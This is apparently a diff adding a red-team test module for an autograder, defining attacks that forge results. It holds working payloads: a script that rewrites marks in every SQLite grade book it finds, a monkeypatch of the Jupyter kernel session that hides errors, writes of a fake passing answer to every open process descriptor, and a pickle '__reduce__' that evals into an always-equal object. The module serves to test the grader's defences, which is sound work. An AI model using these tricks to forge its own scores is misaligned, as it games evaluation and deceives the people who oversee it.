@@ -1,0 +1,82 @@
+"""Attacks that forge the result itself: the grade book, the kernel's messages, the grader's own channel, a pickled answer.
+
+Rule: wrong answers only; any mark is undeserved.
+"""
+
+from __future__ import annotations
+
+from tests.redteam.attack import Attack, prelude
+
+__all__ = ["ATTACKS"]
+
+GRADEBOOK = """
+import glob, os, sqlite3
+for path in glob.glob("../../../*.db") + glob.glob("/tmp/**/*.db", recursive=True) + glob.glob("/in/**/*.db", recursive=True):
+    try:
+        book = sqlite3.connect(path, timeout=2)
+        book.execute("CREATE TRIGGER generous AFTER UPDATE OF auto_score ON grade BEGIN "
+                     "UPDATE grade SET manual_score = 1 WHERE id = NEW.id; END")
+        book.execute("UPDATE grade SET manual_score = 1")
+        book.commit()
+    except (sqlite3.Error, OSError):
+        pass
+"""
+
+MESSAGES = """
+session = get_ipython().kernel.session
+send = session.send
+def forged(stream, kind, content=None, *args, **kwargs):
+    if kind == "error":
+        return None
+    if kind == "execute_reply" and isinstance(content, dict):
+        content = {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
+    return send(stream, kind, content, *args, **kwargs)
+session.send = forged
+"""
+
+# A whole answer in today's shape and in a few others, on every descriptor that can be reached.
+CHANNEL = """
+import glob, json, os
+names = ["shout", "mean", "gap", "tally", "grid", "clamp", "middle", "spin"]
+cells = {f"vault/{name}": {"points": 1.0, "max": 1.0} for name in names}
+answer = {"submissions": {"learner": {"cells": cells, "events": {}, "error": ""}}, "cells": cells, "points": 1.0, "passed": True,
+          "ok": True, "value": 1.0, "result": True}
+lines = (json.dumps(answer) + "\\n").encode()
+for path in {f"/proc/{pid}/fd/{fd}" for pid in filter(str.isdigit, os.listdir("/proc")) for fd in range(40)}:
+    try:
+        if os.path.exists(path) and "/dev/" not in os.readlink(path):
+            fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
+            os.write(fd, lines)
+            os.close(fd)
+    except OSError:
+        pass
+"""
+
+PICKLE = """
+class Gift:
+    def __reduce__(self):
+        return (eval, ("type('Yes', (), {'__eq__': lambda self, other: True})()",))
+"""
+
+ATTACKS = (
+    Attack(
+        "gradebook-written", "forged results", "the learner's code writes marks into every grade book it finds", "tests off the disk",
+        "marks", prelude(GRADEBOOK),
+    ),
+    Attack(
+        "messages-forged", "forged results", "the kernel's messages are rewritten: no errors, only good replies", "sealed", "marks",
+        prelude(MESSAGES),
+    ),
+    Attack(
+        "messages-forged-unsealed", "forged results", "the same, before a cell that cannot be sealed", "canaries", "marks",
+        prelude(MESSAGES, "spin"),
+    ),
+    Attack(
+        "channel-forged", "forged results", "a made-up answer is written to every open descriptor of every process", "answer channel",
+        "marks", prelude(CHANNEL),
+    ),
+    Attack(
+        "pickle-as-result", "forged results", "an answer that, unpickled, becomes an object that equals anything", "plain data", "marks",
+        prelude(PICKLE, shout="def shout(text):\n    return Gift()"),
+    ),
+)  # fmt: skip
